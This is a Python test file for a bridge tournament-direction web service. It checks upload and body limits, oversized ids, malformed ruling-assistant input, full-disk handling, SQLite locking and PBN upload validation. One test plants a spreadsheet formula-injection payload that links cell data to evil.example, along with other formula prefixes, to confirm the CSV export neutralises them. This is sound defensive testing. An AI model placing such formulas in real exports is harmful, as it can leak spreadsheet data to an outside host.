"""Limits and error pages (issue 15, points 2, 6, 7, 8, 9): request bodies over their
limit, ids and numbers no database column holds, malformed answers to the ruling
assistant, a full disk during result entry, spreadsheet formulas in the rulings CSV, a
second server on one SQLite file, and PBN uploads that hold no usable board set.

Runs on SQLite, and on PostgreSQL with BRIDGELAWS_TEST_DB=postgresql (conftest.py);
the tests of two real servers use an SQLite file of their own on both runs.
"""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import re
import subprocess

import httpx
import pytest
import sqlalchemy
from fastapi.routing import APIRoute
from fastapi.testclient import TestClient
from sqlalchemy.exc import OperationalError

from bridgelaws.cards import BridgeError
from bridgelaws.i18n import LANGUAGES, message
from bridgelaws.service import limits
from bridgelaws.service.assistant import booklet
from bridgelaws.service.console import logic
from bridgelaws.service.db import EventRow, ResultRow, RulingRow, hold_sqlite_lock, select

from .live_server import LiveServer, free_port, server_command
from .test_service_api import (PASSWORD, app, client, hidden, line,  # noqa: F401 (fixtures)
                               new_event, played_board_one, rule, token)

DEAL = "N:AKQ2.KQ2.A32.K32 T98.JT9.KQJ.QJT9 J76.A8765.T98.A4 543.43.7654.8765"
OTHER = "N:T98.JT9.KQJ.QJT9 AKQ2.KQ2.A32.K32 543.43.7654.8765 J76.A8765.T98.A4"
HUGE = ("9" * 30, str(2**31), "-5", "0")


def pbn_set(boards=range(1, 7), deal=DEAL) -> bytes:
    return "".join(f'[Board "{b}"]\n[Deal "{deal}"]\n\n' for b in boards).encode()


def upload(client, content: bytes, name="set.pbn", lang="en", **over):
    data = {"csrf": client.csrf, "name": "Uploaded", "kind": "pairs", "movement": "mitchell",
            "tables": "3", "sections": "1", "boards_per_round": "2", "scoring": "mp",
            "source": "pbn", **over}
    return client.post(f"/events/new?lang={lang}", data=data,
                       files={"pbn": (name, content, "text/plain")}, follow_redirects=False)


def events(app) -> int:
    with app.state.store.session() as s:
        return s.query(EventRow).count()


def error_text(page: str) -> str:
    m = re.search(r'<p class="error">(.*?)</p>', page, re.S)
    return m.group(1) if m else ""


# ---------------------------------------------------------------- point 2: body limits

def test_the_default_limits_and_their_settings(monkeypatch):
    assert limits.Limits() == limits.Limits(body=limits.MB, upload=10 * limits.MB)
    got = limits.Limits.from_env({"BRIDGELAWS_MAX_UPLOAD_MB": "2.5",
                                  "BRIDGELAWS_MAX_BODY_KB": "64"})
    assert (got.upload, got.body) == (int(2.5 * limits.MB), 64 * 1024)
    with pytest.raises(BridgeError, match="BRIDGELAWS_MAX_UPLOAD_MB"):
        limits.Limits.from_env({"BRIDGELAWS_MAX_UPLOAD_MB": "ten"})
    # bridgelaws serve: the options set the limits, uvicorn gets a WebSocket message limit
    import uvicorn
    from bridgelaws import cli
    seen = {}
    monkeypatch.setattr(uvicorn, "run", lambda app, **kw: seen.update(app=app, **kw))
    monkeypatch.setenv("BRIDGELAWS_PASSWORD", PASSWORD)
    assert cli.main(["serve", "--db", "sqlite://", "--no-demo", "--max-upload-mb", "3",
                     "--max-body-kb", "256"]) == 0
    assert seen["app"].state.limits == limits.Limits(body=256 * 1024, upload=3 * limits.MB)
    assert seen["ws_max_size"] == limits.WS_MAX_SIZE == 64 * 1024
    assert cli.main(["serve", "--db", "sqlite://", "--max-upload-mb", "0"]) == 2


def test_a_body_over_the_limit_is_refused_before_it_is_read(client):
    client.app.state.limits.body = 4096
    eid = new_event(client)
    data = {"csrf": client.csrf, "section": "A", "round": "1", "table": "1", "board": "1",
            "kind": "artificial", "ns_percent": "60", "ew_percent": "40",
            "ruling": "x" * 10_000}
    r = client.post(f"/events/{eid}/adjust?lang=pl", data=data)
    assert r.status_code == 413
    assert message("ui.error.too_large", "pl", limit="4 KB") in r.text
    with client.app.state.store.session() as s:
        assert s.query(RulingRow).count() == 0
    # under /api/ the answer is JSON
    r = client.post(f"/api/events/{eid}/results", content=b"{" + b" " * 5000 + b"}",
                    headers={"X-CSRF-Token": client.csrf, "content-type": "application/json"})
    assert r.status_code == 413                # the session keeps the language chosen
    assert r.json() == {"error": message("ui.error.too_large", "pl", limit="4 KB")}


def test_a_chunked_body_is_counted_while_it_is_read(client):
    """No Content-Length: the bytes are counted as they come, and the upload stops at
    the limit (the rest is never read)."""
    client.app.state.limits.body, client.app.state.limits.upload = 16 * 1024, 64 * 1024

    def body():
        head = (f'--b\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{client.csrf}\r\n'
                '--b\r\nContent-Disposition: form-data; name="pbn"; filename="big.pbn"\r\n'
                'Content-Type: text/plain\r\n\r\n').encode()
        yield head
        for _ in range(100):                    # 100 x 16 KB, far over 64 KB
            yield pbn_set(range(1, 200))[:16 * 1024]

    r = client.post("/events/new?lang=nb", content=body(),
                    headers={"content-type": "multipart/form-data; boundary=b"})
    assert "content-length" not in r.request.headers
    assert r.status_code == 413
    assert message("ui.error.too_large_upload", "nb", limit="64 KB") in r.text
    assert events(client.app) == 0


def test_the_upload_limit_is_larger_than_the_general_one(client):
    client.app.state.limits.body, client.app.state.limits.upload = 2048, 256 * 1024
    big = pbn_set(range(1, 7)) + b"% padding\n" * 2000          # 20 KB: a legal set
    assert upload(client, big).status_code == 303
    r = upload(client, big + b"% more\n" * 40_000)             # 300 KB
    assert r.status_code == 413 and "256 KB" in r.text and events(client.app) == 1


def test_an_uploaded_set_is_read_off_the_event_loop(client, monkeypatch):
    """The PBN board set is parsed and the event built in a worker thread: a large file
    never holds up the pages of other directors and players."""
    on_loop = []
    read = logic._pbn_deals

    def spy(*args, **kw):
        try:
            asyncio.get_running_loop()
            on_loop.append(True)
        except RuntimeError:                   # no event loop runs in this thread
            on_loop.append(False)
        return read(*args, **kw)

    monkeypatch.setattr(logic, "_pbn_deals", spy)
    assert upload(client, pbn_set()).status_code == 303
    assert on_loop == [False]


def test_a_real_server_refuses_huge_uploads_without_reading_them(tmp_path):
    """The issue's case: a 200 MB upload.  Declared by its Content-Length, it is refused
    before a byte of it is sent; chunked, once 10 MB have come.  The server's memory
    does not grow, and it keeps answering."""
    import socket
    server = LiveServer.start(f"sqlite:///{tmp_path / 'big.db'}", PASSWORD)
    try:
        from .test_durability import login
        c, csrf = login(server.url, PASSWORD)
        rss_before = _rss(server.process.pid)
        total = 200 * 1024 * 1024
        host, port = server.url.split("//")[1].split(":")
        with socket.create_connection((host, int(port)), timeout=20) as sock:
            sock.sendall(("POST /events/new HTTP/1.1\r\nHost: x\r\n"
                          f"Cookie: session={c.cookies.get('session')}\r\n"
                          "Content-Type: multipart/form-data; boundary=b\r\n"
                          f"Content-Length: {total}\r\nExpect: 100-continue\r\n\r\n").encode())
            answer = b""                                            # no body was sent
            while b"</html>" not in answer:
                data = sock.recv(65536)
                if not data:
                    break
                answer += data
        assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
        assert "10 MB" in answer.decode()
        head = (f'--b\r\nContent-Disposition: form-data; name="csrf"\r\n\r\n{csrf}\r\n'
                '--b\r\nContent-Disposition: form-data; name="source"\r\n\r\npbn\r\n'
                '--b\r\nContent-Disposition: form-data; name="pbn"; filename="big.pbn"\r\n'
                'Content-Type: text/plain\r\n\r\n').encode()
        chunk = b'[Board "1"]\n' * 5000                        # 60 KB

        def body():
            yield head
            for _ in range(total // len(chunk)):
                yield chunk

        r = c.post("/events/new", content=body(), timeout=120,
                   headers={"content-type": "multipart/form-data; boundary=b"})
        assert r.status_code == 413 and "10 MB" in r.text
        assert c.get("/healthz").json() == {"status": "ok"}
        assert _rss(server.process.pid) < rss_before + 40
    finally:
        server.stop()


def _rss(pid: int) -> int:
    """A process's resident memory in MB."""
    with open(f"/proc/{pid}/status") as f:
        return next(int(x.split()[1]) // 1024 for x in f if x.startswith("VmRSS"))


# ---------------------------------------------------------------- point 6: ids and numbers

def _routes(routes):
    for route in routes:
        if isinstance(route, APIRoute):
            yield route
        else:                                   # a router included in the application
            yield from _routes(getattr(getattr(route, "original_router", None), "routes", ()))


def _id_routes(app):
    """Every page whose address holds a number (an id, a round, a table), with the names
    of those numbers."""
    for route in _routes(app.routes):
        names = [p.name for p in route.dependant.path_params
                 if "int" in str(p.field_info.annotation)]
        if names:
            yield route, names


def test_every_page_with_a_number_in_its_address_is_404_for_numbers_no_row_has(client):
    """10**30 overflowed the database (500) on every such page, the public results page
    too; a negative number or 0 is no id either.  Each answers 404 in the reader's
    language (JSON under /api/), found by walking the application's routes."""
    routes = list(_id_routes(client.app))
    paths = {r.path for r, _ in routes}
    assert {"/results/{event_id}", "/live/{table_id}", "/rulings/{ruling_id}",
            "/events/{event_id}/tables/{section}/{round_no}/{table_no}",
            "/api/events/{event_id}/results"} <= paths, paths
    anon = TestClient(client.app)
    eid = new_event(client)
    n = 0
    for route, names in routes:
        for name in names:
            for value in (*HUGE, str(2**31 - 1)):
                lang = LANGUAGES[n % len(LANGUAGES)]
                n += 1
                path = route.path.replace("{section}", "A").replace("{" + name + "}", value)
                for other in names:
                    path = path.replace("{" + other + "}", str(eid) if other == "event_id"
                                        else "1")
                who = anon if route.path.startswith("/results/") else client
                for method in route.methods:
                    form = {"data": {"csrf": client.csrf}} if method == "POST" else {}
                    if method == "POST" and route.path.startswith("/api/"):
                        form = {"json": {"round": 1, "table": 1, "board": 1}}
                    r = who.request(method, f"{path}?lang={lang}", **form,
                                    headers={"X-CSRF-Token": client.csrf})
                    assert r.status_code == 404, (method, path, r.status_code, r.text[-300:])
                    if route.path.startswith("/api/"):
                        assert r.json()["error"], (method, path)
                    else:
                        assert message("ui.error.title", lang) in r.text, (path, lang)
                        assert "Traceback" not in r.text
    assert n > 60


def test_an_unknown_id_is_named_in_the_readers_language(client):
    r = client.get("/events/2147483647?lang=ru")
    assert r.status_code == 404 and message("ui.error.no_event", "ru", id=2147483647) in r.text
    r = client.get(f"/rulings/{10**30}?lang=he")
    shown = str(10**30)[:24] + "…"
    assert r.status_code == 404 and message("ui.error.no_ruling", "he", id=shown) in r.text
    r = TestClient(client.app).get(f"/results/{10**30}?lang=pl")
    assert r.status_code == 404 and message("ui.error.no_event", "pl", id=shown) in r.text
    r = client.get("/no/such/page?lang=nb")
    assert r.status_code == 404 and message("ui.error.not_found", "nb") in r.text
    r = client.put("/login?lang=pl")
    assert r.status_code == 405 and message("ui.error.method", "pl") in r.text


@pytest.mark.parametrize("value", ["9" * 30, str(2**31), "²", "٣", "-1", "1e3"])
def test_numbers_in_forms_and_queries_are_checked_before_the_database(client, value):
    eid = played_board_one(client)
    adjust = {"csrf": client.csrf, "section": "A", "round": "1", "table": "1", "board": "1",
              "kind": "artificial", "ns_percent": "60", "ew_percent": "40", "ruling": "r"}
    for field in ("round", "table", "board"):
        r = client.post(f"/events/{eid}/adjust", data={**adjust, field: value})
        assert r.status_code == 400, (field, r.text[-300:])
        assert message("ui.err.whole_number", "en", value=value[:20]) in r.text
    r = client.post(f"/events/{eid}/publish", data={"csrf": client.csrf, "minutes": value,
                                                     "action": "publish"})
    assert r.status_code == 400 and "10080" in r.text
    with client.app.state.store.session() as s:
        assert not s.get(EventRow, eid).published
    r = client.post(f"/events/{eid}/tables/A/1/1",
                    data={"csrf": client.csrf, f":{value}|contract": "3N",
                          f":{value}|declarer": "N", f":{value}|tricks": "9"})
    assert r.status_code == 400 and "a whole number is needed" in r.text
    for field in ("round", "table", "board"):
        body = {"round": 1, "table": 1, "board": 1, "contract": "3N", "declarer": "N",
                "tricks": 9, field: value}
        r = client.post(f"/api/events/{eid}/results", json=body,
                        headers={"X-CSRF-Token": client.csrf})
        assert r.status_code == 400 and r.json()["field"] == field
    page = client.get("/rulings", params={"event": value, "board": value})
    assert page.status_code == 200 and not re.findall(r'<td><a href="/rulings/', page.text)
    r = client.post(f"/events/{eid}/live", data={"csrf": client.csrf, "round": value})
    assert r.status_code == 400
    sc = booklet.scenario("insufficient_bid")
    for field in ("event", "round", "table", "board"):
        r = rule(client, sc.key, **{f.name: f.default for f in sc.facts}, **{field: value})
        assert r.status_code == 400 and f'id="err-{field}"' in r.text, field
    with client.app.state.store.session() as s:
        assert s.query(RulingRow).count() == 0


def test_texts_longer_than_their_columns_are_refused_not_cut(client):
    r = client.post("/events/new", data={"csrf": client.csrf, "name": "N" * 201,
                                         "kind": "pairs", "movement": "mitchell",
                                         "tables": "3", "sections": "1",
                                         "boards_per_round": "2", "scoring": "mp",
                                         "source": "deal"})
    assert r.status_code == 400 and "at most 200 characters, not 201" in r.text
    rid = _a_ruling(client)
    r = client.post(f"/rulings/{rid}/appeal", data={"csrf": client.csrf, "appeal_by": "E" * 121})
    assert r.status_code == 400 and "at most 120 characters, not 121" in r.text
    r = rule(client, "insufficient_bid", section="ABCDEFGHI")
    assert r.status_code == 400 and 'id="err-section"' in r.text


def _a_ruling(client, notes="") -> int:
    sc = booklet.scenario("insufficient_bid")
    fields = hidden(rule(client, sc.key, **{f.name: f.default for f in sc.facts}).text)
    r = client.post("/assistant/apply", data={**fields, "option": "accept", "notes": notes},
                    follow_redirects=False)
    assert r.status_code == 303, r.text
    return int(r.headers["location"].split("/")[-1].split("?")[0])


# ---------------------------------------------------------------- point 6: the assistant's forms

#: malformed answers, by kind of fact (each one unreadable as that kind)
MALFORMED = {
    "seat": ["Q", "north-ish", "Ⅻ", "9" * 40, "\x00", "🂡"],
    "call": ["1Z", "ZZ", "Ⅻ", "9" * 40, "PX", "🂡"],          # 8S is a call (Law 38)
    "calls": ["1N P 1Z", "1N ZZ", "P ZZ", "9" * 40, "\x00", "1♣ 🂡"],
    "card": ["SZ", "S1", "A", "9" * 40, "H 10", "🂡"],
    "cards": ["SA SZ", "XX", "C8 17", "9" * 40, "\x00", "🂡"],
    "int": ["x", "14", "-1", "9" * 40, "٣", "1.5"],
    "choice": ["maybe", "YESS", "0", "9" * 40, "\x00", "🂡"],
}
KEY_OF = {"seat": ("ui.err.seat", "seat"), "call": ("ui.err.call", "call"),
          "calls": ("ui.err.call", "call"), "card": ("ui.err.card", "card"),
          "cards": ("ui.err.card", "card"), "int": ("ui.err.fact_tricks", "value"),
          "choice": ("ui.err.fact_choice", "value")}


def _first_unreadable(kind: str, value: str) -> str:
    """The answer, or for a list of calls or cards the first item that is none."""
    if kind not in ("calls", "cards"):
        return value
    from bridgelaws.calls import parse_call
    from bridgelaws.cards import parse_card
    read = parse_call if kind == "calls" else parse_card
    for item in value.split():
        try:
            read(item)
        except BridgeError:
            return item
    raise AssertionError(f"{value!r} has no unreadable {kind}")


def test_every_fact_of_every_scenario_refuses_malformed_answers_in_the_readers_language(
        client):
    """Each field of each booklet scenario, sent malformed (letters, unknown seats, calls,
    cards, numbers out of range, huge, unicode junk), is a 400 page naming the field and
    why, in the page's language, with everything typed kept."""
    import html
    n = 0
    for sc in booklet.SCENARIOS:
        for f in sc.facts:
            for value in MALFORMED[f.kind][n % 3::3]:          # two of six, in turn
                lang = LANGUAGES[n % len(LANGUAGES)]
                n += 1
                data = {f2.name: f2.default for f2 in sc.facts}
                data[f.name] = value
                r = client.post(f"/assistant/s/{sc.key}?lang={lang}",
                                data={"csrf": client.csrf, **data})
                assert r.status_code == 400, (sc.key, f.name, value, r.status_code)
                err = re.search(rf'id="err-{f.name}">(.*?)</span>', r.text, re.S)
                assert err, (sc.key, f.name, value, r.text[-600:])
                key, name = KEY_OF[f.kind]
                token = _first_unreadable(f.kind, value)
                shown = token if len(token) <= 24 else token[:24] + "…"
                assert html.unescape(err.group(1)) == message(key, lang, **{name: shown}), \
                    (sc.key, f.name, value, err.group(1))
    assert n > 200


def test_answers_that_do_not_fit_the_case_are_refused_never_a_server_error(client):
    """Well-formed answers the case cannot take (a card not held, too many cards, the
    auction going on after three passes): a 400 page saying why, or the ruling."""
    awkward = {"seat": ["N", "S", "W"], "call": ["7N", "XX", "P"],
               "calls": ["1N 1N", "P P P P P", "1N X XX X"],
               "card": ["SA", "C2", "HA"],
               "cards": ["SA SK SQ SJ ST S9 S8 S7 S6 S5 S4 S3 S2 HA", "C2 C2", "DA"],
               "int": ["0", "13", "7"], "choice": ["yes", "no", "no"]}
    n = 0
    for sc in booklet.SCENARIOS:
        for f in sc.facts:
            n += 1
            for value in awkward[f.kind][n % 3:n % 3 + 1]:       # one of three, in turn
                data = {f2.name: f2.default for f2 in sc.facts}
                data[f.name] = value
                r = client.post(f"/assistant/s/{sc.key}", data={"csrf": client.csrf, **data})
                assert r.status_code in (200, 400), (sc.key, f.name, value, r.status_code)
                if r.status_code == 400:
                    assert 'class="error"' in r.text


def test_a_damaged_ruling_record_is_refused_not_stored(client):
    import html
    sc = booklet.scenario("opening_lead_out_of_turn")
    fields = hidden(rule(client, sc.key, **{f.name: f.default for f in sc.facts}).text)
    damaged = [{"case": "{"}, {"case": "[]"}, {"case": '{"events": 5}'},
               {"case": json.dumps({"board": 1, "deal": "N:AKQ", "events": []})},
               {"facts": "[1, 2]"}, {"facts": '{"a": 5}'}, {"choices": "7"},
               {"choices": '[{"by": "Q"}]'}, {"choices": json.dumps([{"by": "N"}] * 21)},
               {"choices": json.dumps([{"by": "N", "choice": "x", "options": [1],
                                        "laws": [], "explanation": []}])},
               {"scenario": "S" * 100}, {"round": "9" * 30}, {"event": "77"},
               {"section": "S" * 9}]
    for i, change in enumerate(damaged):
        lang = LANGUAGES[i % len(LANGUAGES)]
        for action in ("apply", "record"):
            r = client.post(f"/assistant/{action}?lang={lang}",
                            data={**fields, **change, "option": "reject"})
            assert r.status_code == 400, (change, action, r.status_code, r.text[-300:])
            assert message("ui.assistant.damaged", lang) in html.unescape(r.text), (change,
                                                                                   action)
    with client.app.state.store.session() as s:
        assert s.query(RulingRow).count() == 0
    for body in ([1], {"facts": [1]}, {"facts": "x"}):
        r = client.post("/api/assistant/insufficient_bid?lang=pl", json=body,
                        headers={"X-CSRF-Token": client.csrf})
        assert r.status_code == 400 and r.json()["error"] == message("ui.live.err.json", "pl")
    r = client.post("/api/assistant/insufficient_bid?lang=ru", json={"facts": {"call": "1Z"}},
                    headers={"X-CSRF-Token": client.csrf})
    assert r.status_code == 400 and r.json() == {"error": message("ui.err.call", "ru", call="1Z"),
                                                 "field": "call"}
    r = client.post("/api/assistant/nonesuch", json={}, headers={"X-CSRF-Token": client.csrf})
    assert r.status_code == 404


def test_json_nested_too_deep_is_refused_not_a_server_error(client):
    """json.loads raises RecursionError, not ValueError, for '[' nested 100,000 deep."""
    eid = new_event(client)
    deep = "[" * 100_000
    for path in (f"/api/events/{eid}/results", "/api/assistant/insufficient_bid"):
        r = client.post(f"{path}?lang=he", content=deep, headers={
            "X-CSRF-Token": client.csrf, "content-type": "application/json"})
        assert r.status_code == 400 and r.json()["error"] == message("ui.live.err.json", "he")
    r = client.post("/assistant/case", data={"csrf": client.csrf, "case": deep})
    assert r.status_code == 400 and "nested deeper than 20 levels" in r.text
    sc = booklet.scenario("insufficient_bid")
    fields = hidden(rule(client, sc.key, **{f.name: f.default for f in sc.facts}).text)
    r = client.post("/assistant/record", data={**fields, "choices": deep})
    assert r.status_code == 400
    r = client.post(f"/events/{eid}/live", data={"csrf": client.csrf, "round": "1"})
    token = next(iter(client.get(f"/api/events/{eid}/live").json()["tables"][0]["seats"]
                      .values()))
    r = client.post(f"/api/play/{token}", content=deep, headers={"content-type": "application/json"})
    assert r.status_code == 400


def test_a_form_with_too_many_fields_is_a_page_not_a_traceback(client):
    data = [("csrf", client.csrf)] + [(f"f{i}", "x") for i in range(1200)]
    r = client.post("/assistant/s/insufficient_bid?lang=he", data=dict(data))
    assert r.status_code == 400 and message("ui.error.form_limits", "he") in r.text


# ---------------------------------------------------------------- point 6: a full disk

def _disk_full_on_commit(engine, after: int = 0):
    """Every commit after the first ``after`` fails as SQLite's and PostgreSQL's do when
    the disk is full; returns the switch that lets commits through again."""
    state = {"left": after, "full": True}

    def commit(conn):
        if state["full"]:
            if state["left"] > 0:
                state["left"] -= 1
                return
            raise OperationalError("COMMIT", {}, Exception("database or disk is full"))

    sqlalchemy.event.listen(engine, "commit", commit)
    return state


def test_a_full_disk_during_result_entry_loses_nothing_confirmed(client):
    eid = new_event(client)
    store = client.app.state.store
    r = line(client, eid, 1, 1, 1, contract="4S", declarer="N", tricks="10")
    assert r.status_code == 303
    client.get(f"/events/{eid}?lang=pl")        # the language is remembered before the disk fills
    data = {"csrf": client.csrf,
            ":2|contract": "3N", ":2|declarer": "S", ":2|tricks": "9",
            ":1|contract": "5S", ":1|declarer": "N", ":1|tricks": "11"}
    # board 1's change overwrites a result: confirmed first ("was ..., now ...")
    r = client.post(f"/events/{eid}/tables/A/1/1?lang=pl", data=data, follow_redirects=False)
    assert r.status_code == 200 and 'id="confirm"' in r.text
    data = {m.group(1): html.unescape(m.group(2)) for m in re.finditer(
        r'<input type="hidden" name="([^"]+)" value="([^"]*)"', r.text)}
    # the disk fills up after one more line: board 2 is saved, board 1's change is not
    disk = _disk_full_on_commit(store.engine, after=1)
    r = client.post(f"/events/{eid}/tables/A/1/1?lang=pl", data=data, follow_redirects=False)
    assert r.status_code == 503
    assert message("ui.table.database", "pl") in r.text
    assert message("ui.table.not_saved", "pl") in r.text
    assert 'value="5S"' in r.text and 'value="11"' in r.text        # as typed
    assert message("ui.table.some_wrong", "pl", n=1, wrong=1) in r.text
    disk["full"] = False
    with store.session() as s:
        rows = {r.board: (r.contract, r.tricks) for r in s.scalars(select(ResultRow))}
    assert rows == {1: ("4S", 10), 2: ("3N", 9)}     # the confirmed line is intact
    r = client.post(f"/events/{eid}/tables/A/1/1", data=data, follow_redirects=False)
    assert r.status_code == 303                      # sent again once there is room
    with store.session() as s:
        assert s.scalar(select(ResultRow.contract).where(ResultRow.board == 1)) == "5S"


def test_a_full_disk_elsewhere_is_a_503_page_and_nothing_half_saved(client):
    eid = played_board_one(client)
    _disk_full_on_commit(client.app.state.store.engine)
    data = {"csrf": client.csrf, "section": "A", "round": "1", "table": "1", "board": "1",
            "kind": "artificial", "ns_percent": "60", "ew_percent": "40", "ruling": "r",
            "confirm": "1"}
    r = client.post(f"/events/{eid}/adjust?lang=ru", data=data)
    assert r.status_code == 503 and message("ui.error.database", "ru") in r.text
    r = client.post(f"/api/events/{eid}/results?lang=nb", headers={"X-CSRF-Token": client.csrf},
                    json={"round": 1, "table": 1, "board": 2, "contract": "3N",
                          "declarer": "S", "tricks": 9})
    assert r.status_code == 503 and r.json() == {"error": message("ui.error.database", "nb")}
    with client.app.state.store.session() as s:
        assert s.query(RulingRow).count() == 0
        assert s.scalar(select(ResultRow.adjusted).where(ResultRow.board == 1,
                                                         ResultRow.round == 1)) is None


def test_a_really_full_sqlite_file(tmp_path):
    """No simulation: SQLite's own limit on the file's pages makes the database full
    (an SQLite file of its own, on both runs of the suite)."""
    from bridgelaws.service.app import create_app, ensure_director
    app = create_app(f"sqlite:///{tmp_path / 'full.db'}", demo=False)
    ensure_director(app.state.store, "td", PASSWORD)
    c = TestClient(app)
    c.post("/login", data={"csrf": token(c), "username": "td", "password": PASSWORD})
    c.csrf = token(c, "/")
    eid = new_event(c, tables="8", boards_per_round="4")
    store = app.state.store

    def full(dbapi, _record):
        pages = dbapi.execute("PRAGMA page_count").fetchone()[0]
        dbapi.execute(f"PRAGMA max_page_count = {pages}")

    sqlalchemy.event.listen(store.engine, "connect", full)
    store.engine.dispose()
    confirmed, r = set(), None
    with store.session() as s:
        sittings = [(st.round, st.table_no, st.boards) for st in s.get(EventRow, eid).sittings]
    for rnd, table, boards in sittings:
        data = {"csrf": c.csrf}
        for b in boards:
            data.update({f":{b}|contract": "3N", f":{b}|declarer": "S", f":{b}|tricks": "9"})
        r = c.post(f"/events/{eid}/tables/A/{rnd}/{table}", data=data, follow_redirects=False)
        if r.status_code != 303:
            break
        confirmed |= {(rnd, table, b) for b in boards}
    assert r is not None and r.status_code == 503, r.text[-300:]
    assert message("ui.table.database", "en") in r.text
    refused = {int(b) for b in re.findall(
        r'data-board="(\d+)" data-room="">(?:(?!</tr>).)*' + re.escape(
            message("ui.table.not_saved", "en")), r.text, re.S)}
    assert refused
    with store.session() as s:
        stored = {(x.round, x.table_no, x.board) for x in s.scalars(select(ResultRow))}
    assert confirmed and confirmed <= stored
    assert not {(rnd, table, b) for b in refused} & stored
    store.dispose()


# ---------------------------------------------------------------- unexpected errors

def test_an_unexpected_error_is_a_plain_page_in_the_readers_language(client, monkeypatch):
    eid = played_board_one(client)
    from bridgelaws.service.console import routes as console

    def broken(*args, **kw):
        raise RuntimeError("secret detail of the server")

    monkeypatch.setattr(console, "standings", broken)
    quiet = TestClient(client.app, raise_server_exceptions=False, cookies=client.cookies)
    r = quiet.get(f"/events/{eid}/standings?lang=he")
    assert r.status_code == 500 and message("ui.error.unexpected", "he") in r.text
    assert "secret detail" not in r.text and "Traceback" not in r.text
    r = quiet.get(f"/api/events/{eid}/standings?lang=pl")
    assert r.status_code == 500 and r.json() == {"error": message("ui.error.unexpected", "pl")}


# ---------------------------------------------------------------- point 7: CSV export

def test_spreadsheet_formulas_in_rulings_are_neutralised_in_the_csv(client):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rid = _a_ruling(client, notes=formula)
    for i, text in enumerate(("+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR")):
        with client.app.state.store.transaction() as s:
            r = s.get(RulingRow, rid)
            s.add(RulingRow(scenario="case", kind="x", notes=text, appeal_by=text,
                            explanation="plain", director=r.director, laws=["1"]))
    raw = client.get("/rulings/export.csv").text.lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert len(rows) == 6
    notes = {r["notes"] for r in rows}
    assert "'" + formula in notes and formula not in notes
    assert {"'+1+1", "'-2+3", "'@SUM(A1)", "'\tTAB", "'\rCR"} <= notes
    for r in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in r.values())
    assert {r["explanation"] for r in rows if r["kind"] == "x"} == {"plain"}
    data = json.loads(client.get("/rulings/export.json").text)   # JSON keeps the text
    assert formula in {d["notes"] for d in data}


# ---------------------------------------------------------------- point 8: one server per SQLite file

def test_a_second_server_on_one_sqlite_file_refuses_to_start(tmp_path):
    db = tmp_path / "club.db"
    first = LiveServer.start(str(db), PASSWORD)
    try:
        port = free_port()
        second = subprocess.run([*server_command(), "serve", "--db", f"sqlite:///{db}",
                                 "--port", str(port), "--no-demo"],
                                capture_output=True, text=True, timeout=60,
                                env={**_env(), "BRIDGELAWS_PASSWORD": PASSWORD})
        assert second.returncode == 2
        lines = second.stderr.strip().splitlines()
        assert len(lines) == 1 and second.stdout == "", second.stderr
        assert "in use by another bridgelaws process" in lines[0]
        assert f"pid {first.process.pid}" in lines[0] and "PostgreSQL" in lines[0]
        with pytest.raises(httpx.ConnectError):
            httpx.get(f"http://127.0.0.1:{port}/healthz", timeout=2)
        assert httpx.get(first.url + "/healthz").json() == {"status": "ok"}
    finally:
        first.stop()
    again = LiveServer.start(str(db), PASSWORD)     # the lock goes with its process
    again.stop()


def _env():
    import os
    env = dict(os.environ)
    env.pop("BRIDGELAWS_DB", None)
    return env


def test_only_sqlite_files_are_locked(tmp_path):
    assert hold_sqlite_lock("sqlite://") is None
    assert hold_sqlite_lock("postgresql://u:p@127.0.0.1/x") is None
    lock = hold_sqlite_lock(str(tmp_path / "a.db"))
    assert lock is not None and hold_sqlite_lock(str(tmp_path / "b.db")) is not None
    lock.close()


# ---------------------------------------------------------------- point 9: PBN uploads

@pytest.mark.parametrize("content", [b"", b"   \n\n\t\n", b"% PBN 2.1\n% nothing here\n{ a note }\n",
                                     b'[Event "Club night"]\n[Board "1"]\n\n[Board "2"]\n'])
def test_an_upload_with_no_deal_is_refused_naming_the_file(client, content):
    r = upload(client, content, name="empty.pbn", lang="ru")
    assert r.status_code == 400
    assert message("ui.err.pbn_nothing", "ru", file="empty.pbn") in r.text
    assert 'value="Uploaded"' in r.text and events(client.app) == 0


def test_boards_given_twice_or_incomplete_are_named(client):
    twice = pbn_set(range(1, 7)) + b'\n[Board "4"]\n[Deal "' + OTHER.encode() + b'"]\n'
    r = upload(client, twice, name="twice.pbn")
    assert r.status_code == 400
    assert message("ui.err.pbn_twice", "en", file="twice.pbn", board=4, first=10,
                   second=20) in r.text
    part = pbn_set(range(1, 7)).replace(DEAL.encode(), b"N:AKQ2.KQ2.A32.K32 - - -", 1)
    r = upload(client, part, name="part.pbn")
    assert r.status_code == 400
    assert message("ui.err.pbn_incomplete", "en", file="part.pbn", line=1, board=1) in r.text
    assert events(client.app) == 0
    # the same deal given again (a file of results repeats it at every table) is taken
    again = pbn_set(range(1, 7)) + pbn_set(range(1, 7))
    assert upload(client, again, name="results.pbn").status_code == 303


def test_an_upload_is_never_read_as_a_path_on_the_server(client, tmp_path):
    secret = tmp_path / "server.pbn"
    secret.write_bytes(pbn_set())
    r = upload(client, str(secret).encode(), name="path.pbn")
    assert r.status_code == 400 and events(client.app) == 0
    assert "path.pbn:1 cannot be read" in r.text
